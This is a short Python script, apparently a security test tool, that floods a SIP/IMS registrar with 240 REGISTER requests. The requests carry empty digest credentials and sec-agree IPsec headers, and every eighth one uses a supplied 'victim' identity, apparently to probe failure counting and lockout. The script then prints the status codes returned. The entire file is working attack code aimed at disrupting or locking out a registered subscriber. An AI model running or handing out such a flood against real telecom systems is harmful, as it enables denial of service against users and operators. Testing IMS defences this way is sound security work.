#!/usr/bin/env python3
"""SM1 after SM1 from one address, of many names and of a registered user's; prints the status of each answer.

    failures_flood.py FROM TO REALM IMPI
"""
import socket
import sys
import time

source, target, realm, victim = sys.argv[1:5]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((source, 5099))
s.setblocking(False)
answers = []


def take():
    try:
        while True:
            answers.append(s.recv(65535).split(b" ", 2)[1].decode())
    except (BlockingIOError, IndexError):
        pass


for n in range(240):
    impi = victim if n % 8 == 7 else f"{1010000001000 + n:015d}@{realm}"
    s.sendto(f"""REGISTER sip:{realm} SIP/2.0
Via: SIP/2.0/UDP {source}:5099;branch=z9hG4bKflood{n}
Max-Forwards: 70
From: <sip:{impi}>;tag=f{n}
To: <sip:{impi}>
Call-ID: flood{n}
CSeq: 1 REGISTER
Contact: <sip:{source}:5099>
Expires: 600
Require: sec-agree
Proxy-Require: sec-agree
Supported: path, sec-agree
Authorization: Digest username="{impi}", realm="{realm}", nonce="", uri="sip:{realm}", response=""
Security-Client: ipsec-3gpp; alg=hmac-sha-1-96; ealg=null; spi-c={100000 + 2 * n}; spi-s={100001 + 2 * n}; port-c={20000 + n}; port-s=5098
Content-Length: 0

""".replace("\n", "\r\n").encode(), (target, 5060))
    take()
    time.sleep(0.01)
for _ in range(20):
    take()
    time.sleep(0.05)
print(" ".join(answers))
